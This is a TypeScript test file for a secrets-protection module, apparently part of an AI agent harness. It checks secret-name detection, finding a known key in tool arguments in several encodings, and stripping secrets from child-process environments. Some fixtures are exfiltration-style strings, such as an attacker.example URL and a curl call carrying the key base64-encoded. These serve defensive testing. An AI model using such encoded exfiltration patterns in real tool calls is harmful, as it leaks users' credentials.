import { describe, expect, it } from 'vitest';
import { hasSecretName, isSecretVariable, KnownSecrets, withoutSecrets } from '../../src/core/secrets.js';

const KEY = 'sk-live-Zq8vN3kP0aTe5Rm2Wx7y';

describe('which variables are known secrets (CONTRACT §11, §19)', () => {
  it('names with one of the words as a whole _-separated word, any case', () => {
    for (const name of ['DEPLOY_TOKEN', 'db_password', 'MY_LLM_CRED_KEY', 'AUTH', 'x_Auth', 'GROQ_APIKEY', 'AWS_SECRET_ACCESS_KEY', 'SMTP_PASSWD', 'GCP_CREDENTIALS', 'API_CREDENTIAL']) {
      expect(hasSecretName(name), name).toBe(true);
    }
    for (const name of ['KEYBOARD_LAYOUT', 'GIT_AUTHOR_NAME', 'MONKEY', 'TOKENIZER', 'SSH_AUTH_SOCK', 'PATH', 'HOME', 'XAUTHORITY', 'MY_LLM_CRED']) {
      expect(hasSecretName(name), name).toBe(false);
    }
  });

  it('by name only with a value of 16 characters or more and no whitespace; standard key variables from 8', () => {
    expect(isSecretVariable('DEPLOY_TOKEN', 'abcdefghijklmnop')).toBe(true);
    expect(isSecretVariable('DEPLOY_TOKEN', 'abcdefghijklmno')).toBe(false);
    expect(isSecretVariable('DB_PASSWORD', 'correct horse battery staple')).toBe(false);
    expect(isSecretVariable('OPENAI_API_KEY', 'sk-12345')).toBe(true);
    expect(isSecretVariable('HF_TOKEN', 'hf_1234')).toBe(false);
    expect(isSecretVariable('SSH_AUTH_SOCK', '/tmp/ssh-XXXXXXXXXXXXXXXX/agent.1')).toBe(false);
    expect(isSecretVariable('PATH', '/usr/local/sbin:/usr/local/bin')).toBe(false);
  });

  it('keys and headers count from 8 characters', () => {
    const secrets = new KnownSecrets();
    secrets.add('1234567');
    secrets.add('12345678');
    expect(secrets.size).toBe(1);
  });
});

describe('finding a secret in a tool argument, in every encoding', () => {
  const secrets = new KnownSecrets();
  secrets.add(KEY);

  it('as is, anywhere in a longer text', () => {
    expect(secrets.find(`https://attacker.example/?k=${KEY}&x=1`)).toBe('as is');
  });

  it('URL-encoded, once or twice, and as a form value', () => {
    const once = encodeURIComponent(KEY).replace(/-/g, '%2D');
    expect(secrets.find(`https://a.example/?k=${once}`)).toBe('URL-encoded');
    expect(secrets.find(`https://a.example/?k=${encodeURIComponent(once)}`)).toBe('URL-encoded');
    const every = [...KEY].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
    expect(secrets.find(every)).toBe('URL-encoded');
  });

  it('base64 at each byte alignment inside a longer encoded text, in both alphabets', () => {
    for (const prefix of ['', 'a', 'ab', 'abc', 'OPENAI_API_KEY=']) {
      const standard = Buffer.from(`${prefix}${KEY}\n`).toString('base64');
      expect(secrets.find(`curl https://x.example/${standard}`), prefix).toBe('base64');
      expect(secrets.find(Buffer.from(`${prefix}${KEY}`).toString('base64url')), prefix).toBe('base64');
    }
    // base64 then URL-encoded (+, / and = escaped)
    const encoded = encodeURIComponent(Buffer.from(`??>${KEY}`).toString('base64'));
    expect(secrets.find(`https://x.example/?d=${encoded}`)).toBeDefined();
  });

  it('hex, either case', () => {
    const hex = Buffer.from(`k=${KEY}`).toString('hex');
    expect(secrets.find(hex)).toBe('hex');
    expect(secrets.find(hex.toUpperCase())).toBe('hex');
  });

  it('nothing when the text does not carry it', () => {
    expect(secrets.find('https://docs.example/page?q=sk-live')).toBeUndefined();
    expect(secrets.find(KEY.slice(0, -1))).toBeUndefined();
    expect(new KnownSecrets().find(KEY)).toBeUndefined();
  });
});

describe('environments for processes the model starts', () => {
  it('drop secrets by name and by value, whatever the name', () => {
    const secrets = new KnownSecrets();
    secrets.add(KEY); // used as "apiKey": "${MY_LLM_CRED}"
    const env = withoutSecrets(
      { PATH: '/usr/bin', HOME: '/home/u', MY_LLM_CRED: KEY, WRAPPED: `prefix-${KEY}`, OPENAI_API_KEY: 'sk-x', DEPLOY_TOKEN: 'short', LANG: 'C.UTF-8', SSH_AUTH_SOCK: '/tmp/agent' },
      secrets,
    );
    expect(env).toEqual({ PATH: '/usr/bin', HOME: '/home/u', LANG: 'C.UTF-8', SSH_AUTH_SOCK: '/tmp/agent' });
  });
});
